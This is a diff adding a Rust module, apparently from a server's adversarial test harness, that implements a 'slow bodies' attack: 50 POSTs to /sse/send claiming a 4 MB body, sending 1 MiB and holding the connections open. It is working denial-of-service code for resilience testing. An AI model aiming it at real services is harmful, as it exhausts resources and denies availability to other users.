@@ -1,0 +1,32 @@
+//! Bodies are begun and not finished, by somebody who may publish.
+
+use std::time::Duration;
+
+use tokio::time::sleep;
+
+use crate::attack::{Attack, Target, Waging};
+use crate::attack::{FROM_ELSEWHERE, head, token};
+
+#[derive(Debug)]
+pub(crate) struct SlowBodies;
+
+impl Attack for SlowBodies {
+    fn name(&self) -> &'static str {
+        "slow bodies"
+    }
+
+    fn wage<'a>(&'a self, target: &'a Target) -> Waging<'a> {
+        Box::pin(async move {
+            let more = format!(
+                "{FROM_ELSEWHERE}Authorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n",
+                token()
+            );
+            let begun = head("POST", "/sse/send", &more) + &"x".repeat(1 << 20);
+            let mut held = Vec::new();
+            for _ in 0..50 {
+                held.extend(target.say(&begun).await.ok());
+            }
+            sleep(Duration::from_secs(2)).await;
+        })
+    }
+}
